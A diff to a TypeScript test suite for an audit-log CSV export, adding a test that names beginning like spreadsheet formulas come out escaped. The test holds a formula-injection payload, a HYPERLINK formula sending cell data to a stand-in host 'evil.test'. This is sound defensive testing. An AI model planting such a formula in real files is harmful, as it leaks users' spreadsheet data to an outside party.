@@ -4,10 +4,10 @@ import { eq, sql } from 'drizzle-orm';
 import { apiKeyScopes, type AuditPage } from '@leasing/contract';
 import { auditLog, type LeadRow } from '../../db/schema/index.js';
 import { createLead, createOffice, createUser, type Office } from '../../test/factories.js';
-import { databaseTargets } from '../../test/test-app.js';
+import { oneDatabase } from '../../test/test-app.js';
 import { useTestApp } from '../../test/use-test-app.js';
 
-describe.each(databaseTargets())('the audit trail ($name)', (target) => {
+describe.each(oneDatabase())('the audit trail ($name)', (target) => {
   const ctx = useTestApp(target);
   let office: Office;
   let admin: string;
@@ -187,5 +187,27 @@ describe.each(databaseTargets())('the audit trail ($name)', (target) => {
     expect(lines[1]).toContain('Added a note');
     expect(lines[1]).toContain('Maya Patel');
     expect((await ctx.request('GET', '/api/audit/export', { as: agent })).status).toBe(403);
+  });
+
+  it('exports names that begin like a formula as text, and leaves other names as they are', async () => {
+    const hostileName = '=HYPERLINK("https://evil.test/?d="&A1,"Open")';
+    const hostile = await createUser(ctx.db, office.company.id, { name: hostileName });
+    const hostileLead = await createLead(ctx.db, office.property, { name: '@SUM(1+1)' });
+    const as = await ctx.signIn(hostile.credentials);
+    for (const leadId of [hostileLead.id, lead.id]) {
+      const note = await ctx.request('POST', `/api/leads/${leadId}/notes`, {
+        as,
+        payload: { leadID: leadId, companyID: office.company.id, text: 'Called back' },
+      });
+      expect(note.status).toBe(200);
+    }
+    const response = await ctx.request('GET', '/api/audit/export?action=note.added', { as: admin });
+    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
+    expect(response.text).toContain(`,${quoted(`'${hostileName}`)},user,'@SUM(1+1),`);
+    expect(response.text).toContain(`,${quoted(`'${hostileName}`)},user,Maya Patel,`);
+    // No cell anywhere begins with a formula character.
+    expect(response.text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    // Positive control: the agent's note of the first test keeps its name and lead untouched.
+    expect(response.text).toContain(',Maya Patel,');
   });
 });
